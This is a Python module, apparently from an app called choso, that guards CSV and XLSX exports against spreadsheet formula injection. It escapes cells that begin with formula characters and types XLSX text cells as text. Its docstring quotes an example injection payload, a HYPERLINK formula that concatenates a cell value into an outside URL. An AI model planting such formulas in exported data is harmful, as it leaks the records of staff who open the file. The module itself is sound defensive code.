"""Every CSV and XLSX file choso writes goes through here, so no cell becomes a formula in a spreadsheet.

A shop named `=HYPERLINK("http://…"&A1,"Xem")` would otherwise run in the staff's Excel or LibreOffice when
they open the records (CSV injection, OWASP). Text cells that begin with = + - @, a tab or a carriage return
get a leading apostrophe, which spreadsheets show as plain text; XLSX cells holding text are typed as text.
Numbers stay numbers. `unguard` undoes it for choso's own CSV import, so an export imported back is unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def guard(value: object) -> object:
    if isinstance(value, str) and value.startswith(DANGEROUS):
        return "'" + value
    return value


def unguard(value: str) -> str:
    return value[1:] if value.startswith("'") and value[1:].startswith(DANGEROUS) else value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """UTF-8 CSV with a BOM (so spreadsheets read Vietnamese) and CRLF lines, as Excel writes it."""
    out = io.StringIO(newline="")
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([guard(h) for h in header])
    for row in rows:
        writer.writerow(["" if v is None else guard(v) for v in row])
    return out.getvalue()


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[object]]) -> bytes:
    return csv_text(header, rows).encode("utf-8")


def xlsx_bytes(header: Sequence[str], rows: Iterable[Sequence[object]], sheet: str) -> bytes:
    from openpyxl import Workbook  # imported here: a second of start-up that few requests need
    from openpyxl.styles import Font

    book = Workbook()
    ws = book.active
    ws.title = sheet[:31]
    for r, row in enumerate([list(header), *rows], start=1):
        for c, value in enumerate(row, start=1):
            cell = ws.cell(row=r, column=c)
            cell.value = guard(value)
            if isinstance(value, str):
                cell.data_type = "s"  # text, never a formula, whatever it begins with
            if r == 1:
                cell.font = Font(bold=True)
    for column in ws.columns:
        ws.column_dimensions[column[0].column_letter].width = min(60, max(len(str(c.value or "")) for c in column) + 2)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
